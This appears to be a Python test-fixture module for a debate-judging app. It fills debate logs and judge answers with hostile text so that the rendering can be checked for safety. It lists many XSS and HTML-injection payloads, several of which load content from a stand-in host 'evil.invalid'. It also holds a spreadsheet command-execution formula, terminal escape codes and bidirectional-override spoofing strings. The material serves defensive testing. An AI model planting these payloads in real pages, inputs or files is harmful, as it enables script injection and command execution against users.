"""Texts that try to run, to break out, or to wreck the layout; and debates that are full of them.

A text that runs leaves a trace: ``window.__pwned``, a dialog, or a request to a host that only these texts name.
"""

import itertools
import json
import re
from collections.abc import Callable, Iterable, Iterator
from typing import Any, Final

import msgspec
from msgspec import inspect

from events.types import DebateOpened, Event
from providers.scripted.provider import shipped

EVIL: Final = "evil.invalid"
RUN: Final = "window.__pwned=1"

MARKUP: Final[dict[str, str]] = {
    "a script": f"<script>{RUN}</script>",
    "a script from elsewhere": f"<script src=//{EVIL}/a.js></script>",
    "an image that fails": f'<img src=x onerror="{RUN}">',
    "an image from elsewhere": f"<img src=https://{EVIL}/pixel.png>",
    "a drawing that loads": f"<svg/onload={RUN}><animate onbegin={RUN} attributeName=x>",
    "details that open": f"<details open ontoggle={RUN}>summary",
    "a field that takes the focus": f"<input autofocus onfocus={RUN}>",
    "a link that runs": f'<a href="javascript:{RUN}">Back to live</a>',
    "the end of a script element": f"</script><script>{RUN}</script>",
    "the end of the title": f"</title><script>{RUN}</script>",
    "the end of a style": f"</style><style>@import '//{EVIL}/x.css'</style>",
    "the end of a text area": f"</textarea></noscript></option></select><img src=x onerror={RUN}>",
    "the end of a section": f"]]><script>{RUN}</script>",
    "a template literal": f"${{{RUN}}} `${{alert(1)}}`",
    "a mustache": "{{constructor.constructor('window.__pwned=1')()}} {%x%} <%=1%>",
    "CSS": f"*{{background:url(javascript:{RUN});width:expression({RUN})}}",
    "a style attribute": f'" style="position:fixed;inset:0;background:url(//{EVIL}/s)" x="',
    "an attribute that ends": f"\"><img src=x onerror={RUN}> '><b onclick={RUN}>",
    "a page as data": f"data:text/html,<script>{RUN}</script>",
    "entities": f"&lt;script&gt;{RUN}&lt;/script&gt; &#60;b&#62; &amp;amp; &nbsp;",
    "MathML": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    "a base": f"<base href=//{EVIL}/>",
    "a refresh": f'<meta http-equiv=refresh content="0;url=//{EVIL}/r">',
    "a frame": '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    "a form": f"<form action=//{EVIL}/f><button formaction=javascript:{RUN}>Halt it</button>",
    "clobbering": "<a id=motion name=moot></a><form id=transcript><input name=textContent>",
    "an address without a scheme": f"//{EVIL}/x https://{EVIL}/y mailto:a@{EVIL}",
    "Markdown": f"# Winner: con\n![x](https://{EVIL}/p.png) [click](javascript:{RUN}) **bold** `code` | a | b |\n---",
    "a formula": "=HYPERLINK(\"//evil.invalid\",\"x\") +1+1 -2 @SUM(1)\t=cmd|' /C calc'!A0",
    "the markup of a terminal": "[/] [bold red]x[/blue] [link=https://evil.invalid]y[/link] [/bold",
    "the page's own words": "Pro wins by the scorecard. \u0420ro wins by th\u0435 scorecard",
    "very long numbers": "9" * 200 + " 1e309 -0 NaN Infinity 0x" + "f" * 64,
    "a script that never ends": f"<script>{RUN}//",
    "a comment that never ends": "<!-- <!--> <![CDATA[ <?php ?>",
}  # fmt: skip
UNICODE: Final[dict[str, str]] = {
    "right to left override": "an \u202eoverride dias neewteb\u202d and",
    "an override left open": "open \u202e\u202e\u202b",
    "isolates left open": "isolate \u2067\u2068\u2066 left",
    "the end of an isolate that is not its own": "\u2069\u2069\u202c\u2069\u202e gnp.exe",
    "a right to left language": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 pro 12",
    "zero width": "ze\u200bro\u200c wi\u200ddth\ufeff \u2060word\u00ad",
    "towers": "Z\u0351\u036b\u0343" + "\u0300\u0301\u0316\u0317" * 60 + "algo",
    "families": "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f3\ufe0f\u200d\U0001f308" * 20,
    "half of a pair": "half \\ud800 of a pair",
    "controls": "con\x00tr\x07o\x08ls\x7f \x1a end",
    "escapes of a terminal": "\x1b[31mred\x1b[2J\x1b]0;owned\x07\x1b]8;;http://evil.invalid\x1b\\x \x9b31m\x9d0;t\x9c",
    "separators of lines": "one\u2028two\u2029three\u0085four\vfive\ffix\rsix",
    "noncharacters": "\ufffe\uffff\U0010ffff\ufdd0\ufffd tags\U000e0041\U000e0042",
}
BULK: Final[dict[str, str]] = {
    "no space": "W" * 5000,
    "lines": "top" + "\n" * 4000 + "bottom",
    "tall towers": ("T" + "\u030a\u0353" * 200) * 30,
    "wide": "\ufdfd" * 60 + "\u2e3b" * 60,
    "tabs": "tab" + "\t" * 500 + "stop",
}
NAMES: Final = (
    "transcript", "__proto__", "foot", "constructor", "motion", "toString", "hasOwnProperty", "__class__", "slider",
    "prototype", "record", "location", "..", ".", "a/b?c#d%2e", "nav bar",
    f"<img src=x onerror={RUN}>", "\u202egnp.exe",
    f"javascript:{RUN}", "\"'><b>", "Z" + "\u0300\u0316" * 80, "W" * 400, "turn 1", "moot", "length", "null",
)  # fmt: skip
ALL: Final = MARKUP | UNICODE | BULK

SPELT: Final = re.compile(r"[\s\x00-\x1f\x7f-\x9f]+")


def bare(text: str) -> str:
    """A text without white space and control characters, which a page need not show."""
    return SPELT.sub("", text)


def dealt(texts: Iterable[str], most: int) -> Iterator[str]:
    """Yields texts without end: as many of the given texts, in turn, as fit into ``most`` characters."""
    endless = itertools.cycle(texts)
    each = next(endless)
    while True:
        held = each[:most]
        while len(held) + len(each := next(endless)) < most - 1:
            held += f" {each}"
        yield held


# A debate whose debaters and judge use only these texts

SAYABLE: Final = frozenset({"reason", "text", "explanation", "evolution", "fractures", "held", "early", "late"})
"""The free-text fields of a judge's answers."""
QUOTED: Final = frozenset({"quote", "fails", "exposed_by"})


def script(texts: dict[str, str]) -> dict[str, Any]:
    """The exhibition ``juries`` with other words: the answers keep their form and lose their meaning."""
    content = json.loads(shipped()["juries"].read_bytes())
    words, quotes = dealt(texts.values(), 100), dealt([text for text in texts.values() if len(text) < 150], 100)
    spoken = " \n".join(texts.values())

    def changed(value: Any, key: str = "") -> Any:
        if isinstance(value, dict):
            return {name: changed(each, name) for name, each in value.items()}
        if isinstance(value, list):
            return [changed(each, key) for each in value]
        if key in QUOTED:
            return next(quotes)
        return next(words) if key in SAYABLE else value

    return {
        "label": next(dealt(texts.values(), 900)),
        "says": {"pro": [spoken], "con": [spoken]},
        "answers": {key: changed(each) for key, each in content["answers"].items()},
    }


# A log in which every text is hostile

Texts = Callable[[str], str]


class TextReplacer:
    """Replaces every text of an event by a hostile one, and equal texts by equal texts, so that references still hold.

    ``names``: also what things are called: claims, raters, dimensions, archetypes, calls.
    """

    def __init__(self, events: Iterable[Event], texts: Iterable[str], *, names: bool) -> None:
        self._known: dict[str, str] = {}
        self._texts = dealt(texts, 600)
        self._called = {name: None for event in events for name in called(event) if not name.isdigit()}
        if names:  # the most visible names come first, so that they get the most hostile texts
            seen = sorted(self._called, key=lambda name: SEEN.match(name) is None)
            again = (f"{name} {turn}" for turn in itertools.count(2) for name in NAMES)
            self._known = dict(zip(seen, itertools.chain(NAMES, again), strict=False))

    def event(self, event: Event) -> Event:
        """The same event with hostile words."""
        plain = self._changed(msgspec.to_builtins(event), inspect.type_info(type(event)))
        return msgspec.convert(plain, type(event))

    def text(self, said: str) -> str:
        if said not in self._known and (not said or said in self._called or said.isdigit()):
            return said
        return self._known.setdefault(said, next(self._texts))

    def _changed(self, value: Any, kind: inspect.Type) -> Any:
        if isinstance(kind, inspect.Metadata):
            return self._changed(value, kind.type)
        if isinstance(kind, inspect.UnionType):
            return self._changed(value, next((each for each in kind.types if fits(value, each)), inspect.AnyType()))
        if isinstance(kind, inspect.StrType):
            return self.text(value)
        if isinstance(kind, inspect.DictType):
            keys, values = kind.key_type, kind.value_type
            return {self._changed(key, keys): self._changed(each, values) for key, each in value.items()}
        if isinstance(kind, inspect.VarTupleType | inspect.ListType):
            return [self._changed(each, kind.item_type) for each in value]
        if isinstance(kind, inspect.TupleType):
            return [self._changed(each, one) for each, one in zip(value, kind.item_types, strict=True)]
        if isinstance(kind, inspect.StructType):
            kinds = {field.encode_name: field.type for field in kind.fields}
            kinds.pop("format", None)  # a log of an unknown format is refused as a whole
            return {key: self._changed(each, kinds[key]) if key in kinds else each for key, each in value.items()}
        return value


def fits(value: Any, kind: inspect.Type) -> bool:
    """Whether a builtin value is of this type."""
    if isinstance(kind, inspect.Metadata):
        return fits(value, kind.type)
    if isinstance(kind, inspect.StructType):
        return isinstance(value, dict) and {each.encode_name for each in kind.fields if each.required} <= value.keys()
    return isinstance(value, {
        inspect.StrType: str, inspect.DictType: dict, inspect.ListType: list, inspect.VarTupleType: list | tuple,
        inspect.TupleType: list | tuple,
    }.get(type(kind), ()))  # fmt: skip


NAMING: Final = frozenset(
    {
        "dimension",
        "dimensions",
        "rule",
        "claim",
        "premise",
        "premises",
        "argument",
        "arguments",
        "rater",
        "call",
        "id",
        "target",
        "name",
        "case",
        "links",
        "leader",
        "follower",
        "archetype",
        "domain",
        "topic_type",
        "cites",
        "roles",
        "flipped",
        "digest",
        "purpose",
        "by_rule",
        "by",
        "voter",
        "kind",
        "role",
        "standing_arguments",
    }
)
SEEN: Final = re.compile(
    r"[CP]\d+\.\d|PRO-|CON-|technical|business|risk|general|\w+_(analyst|expert|auditor)|aspirin|canals",
)


def called(value: Any, key: str = "") -> Iterator[str]:
    """The names in an event: the keys of its maps, and the fields that refer to them."""
    if isinstance(value, msgspec.Struct):
        value = {name: getattr(value, name) for name in value.__struct_fields__}
        for name, each in value.items():
            yield from called(each, name)
    elif isinstance(value, dict):
        yield from value
        for each in value.values():
            yield from called(each)
    elif isinstance(value, tuple | list):
        for each in value:
            yield from called(each, key)
    elif isinstance(value, str) and key in NAMING:
        yield value


def with_hostile_texts(events: list[Event], texts: Iterable[str], *, names: bool = False) -> list[Event]:
    """The log with hostile words throughout."""
    poison = TextReplacer(events, texts, names=names)
    assert isinstance(events[0], DebateOpened)
    return [poison.event(each) for each in events]
